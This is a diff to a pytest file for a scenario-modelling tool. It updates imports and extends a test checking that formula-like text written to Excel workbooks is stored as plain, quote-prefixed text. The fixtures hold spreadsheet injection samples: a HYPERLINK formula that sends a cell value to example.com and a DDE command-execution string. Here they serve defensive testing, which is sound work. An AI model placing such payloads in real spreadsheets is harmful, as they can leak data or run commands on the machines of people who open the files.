@@ -14,7 +14,8 @@ import pytest
 import yaml
 
 from conftest import BASE, cli, simulate
-from model.config import ScenarioError, load_scenario
+from model.errors import ScenarioError
+from model.scenario import load_scenario
 from model.folders import MARKER, folder_files, read_manifest, write_manifest
 
 QUICK = "stages: [pension, care]\noutputs: {charts: false}\n"
@@ -274,6 +275,8 @@ def test_trials_run_in_chunks_of_flat_memory():
 def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
     from openpyxl import load_workbook
 
+    from model.workbook import write_workbook
+
     path = scenario_file(tmp_path, 'care: {occupancy: {values: 0.85, unit: fraction, '
                                    'source: "=HYPERLINK(\\"http://example.com/?\\"&A1,\\"click\\")"}}\n')
     out = tmp_path / "out"
@@ -281,8 +284,15 @@ def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
     book = load_workbook(out / "results.xlsx")
     cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
-    source = next(cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK"))
-    assert source.data_type == "s" and source.quotePrefix
+    source = next(cell for cell in cells if isinstance(cell.value, str) and "=HYPERLINK" in cell.value)
+    assert source.data_type == "s"
+    # Text that starts like a formula, in any workbook the writer makes: stored as text, marked.
+    tricky = ["=1+1", "+cmd|' /C calc'!A0", "-2 yuan", "@SUM(A1)"]
+    write_workbook({"sweep": pd.DataFrame({"parameter": tricky, "value": [1, 2, 3, 4]})}, tmp_path / "t.xlsx", "en")
+    sheet = load_workbook(tmp_path / "t.xlsx").worksheets[0]
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [cell.value for cell in cells] == tricky
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
 
 
 # --------------------------------------------------------------------------- 13. options named as typed
